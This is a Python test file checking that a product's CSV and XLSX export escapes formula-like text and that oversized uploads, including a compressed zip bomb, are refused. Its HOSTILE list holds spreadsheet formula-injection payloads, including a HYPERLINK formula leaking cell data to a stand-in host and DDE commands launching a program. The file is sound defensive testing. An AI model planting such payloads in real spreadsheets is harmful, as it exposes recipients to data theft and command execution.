"""Spreadsheets the product writes never carry live formulas, and numbers stay numbers; uploaded
tables are bounded before they are read."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from tuyengiao.core import tabular
from tuyengiao.core.exceptions import UserError

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_escaped_in_csv_and_kept_as_text_in_xlsx(text: str) -> None:
    assert tabular.csv_cell(text) == "'" + text
    book = Workbook()
    tabular.append_row(book.active, [text, -5, Decimal("-1.5"), "-3", "-1.234,5", "Đảng bộ"])
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert cells[0].data_type == "s" and cells[0].value == text  # shown as typed, never run
    assert [c.value for c in cells[1:]] == [-5, -1.5, "-3", "-1.234,5", "Đảng bộ"]
    assert cells[1].data_type == "n" and cells[2].data_type == "n"


def test_numbers_and_numeric_text_are_left_alone() -> None:
    assert [tabular.csv_cell(v) for v in (-5, Decimal("-1.5"), "-1.234,5", "+84", "-3%", "", None)] == [
        -5, Decimal("-1.5"), "-1.234,5", "+84", "-3%", "", None,
    ]  # fmt: skip
    assert tabular.csv_row(["=1", "a-b", "x=1"]) == ["'=1", "a-b", "x=1"]


def test_a_csv_of_too_many_rows_is_refused_while_reading() -> None:
    data = b"code,name\n" + b"a,b\n" * (tabular.MAX_ROWS + 5)
    with pytest.raises(UserError, match="quá lớn"):
        tabular.read_table(data)


def test_a_zip_that_expands_to_gigabytes_is_refused_before_parsing() -> None:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(
        "xl/worksheets/sheet1.xml", "w", force_zip64=True
    ) as handle:
        chunk = b"<row/>" * 100_000
        for _ in range(400):  # 240 MB of XML
            handle.write(chunk)
    assert len(out.getvalue()) < 2 * 1024 * 1024
    with pytest.raises(UserError, match="quá lớn"):
        tabular.read_table(out.getvalue())
